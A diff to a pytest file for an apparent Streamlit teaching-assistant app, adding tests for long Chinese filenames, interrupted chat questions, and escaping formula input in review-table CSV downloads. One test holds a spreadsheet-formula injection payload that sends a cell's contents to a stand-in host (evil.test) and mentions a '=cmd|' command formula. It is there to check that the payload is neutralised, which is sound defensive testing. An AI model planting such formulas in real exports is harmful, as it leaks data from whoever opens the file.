@@ -165,6 +165,9 @@ def test_upload_rules(tmp_path):
         save_upload(tmp_path, "big.txt", b"x" * (2 * 2**20), 1, manifest)
     with pytest.raises(UploadError, match="already uploaded"):
         save_upload(tmp_path, "新讲义.md", b"# other\n\ncontent", 1, manifest)
+    # 89 Chinese characters are 267 bytes: the file system refused the name (a review's case, a traceback)
+    long = save_upload(tmp_path, "语" * 89 + ".md", b"# long\n\nname", 1, manifest)
+    assert long.is_file() and len(long.name.encode()) <= 255
 
 
 def test_office_hours_shows_code_before_running_it(app_env):
@@ -438,3 +441,35 @@ def test_a_forged_figure_is_refused_or_shown_as_one_sentence_never_an_error_page
     assert any("无法显示" in c.value or "could not be shown" in c.value for c in at.caption), [c.value for c in at.caption]
     assert all(len(e.value) < 3000 for e in at.error)  # the forged 50,000-character message is capped
     assert len(at.chat_input) == 1  # the page still works
+
+
+def test_a_question_interrupted_by_the_next_is_answered_first_never_dropped(app_env):
+    """A second question sent while the first is answered stops that run: the first was left without an
+    answer in the chat and sent to the model as history (a review's case). It waits in the session
+    until its answer is stored, and is answered again first."""
+    import streamlit as st
+
+    st.cache_resource.clear()
+    at = _app()
+    at.session_state["unanswered"] = ["温度参数T有什么作用？"]  # what an interrupted run leaves
+    at = _ask(at, "什么是语言模型？")
+    assert not at.exception
+    users = [m for m in at.chat_message if m.name == "user"]
+    assert len(at.chat_message) == 4 and len(users) == 2
+    assert "温度参数" in users[0].markdown[0].value and "语言模型" in users[1].markdown[0].value
+    assert at.session_state["unanswered"] == []
+    roles = [m.role for m in at.session_state["messages"]]
+    assert roles == ["user", "assistant", "user", "assistant"]
+
+
+def test_a_question_written_as_a_spreadsheet_formula_stays_text_in_the_review_tables(app_env):
+    """A student's '=HYPERLINK(…)' question and '=cmd|…' comment reached the Review queue's CSV download
+    as live formulas (a review's case): the table a TA downloads holds them as text."""
+    import streamlit as st
+
+    st.cache_resource.clear()
+    at = _ask(_app(), '=HYPERLINK("http://evil.test/?leak="&B2,"温度参数T有什么作用？")')
+    assert not at.exception
+    review = _page("2_Review_queue.py")
+    cells = list(review.dataframe[0].value["question"])
+    assert cells == ['\'=HYPERLINK("http://evil.test/?leak="&B2,"温度参数T有什么作用？")']
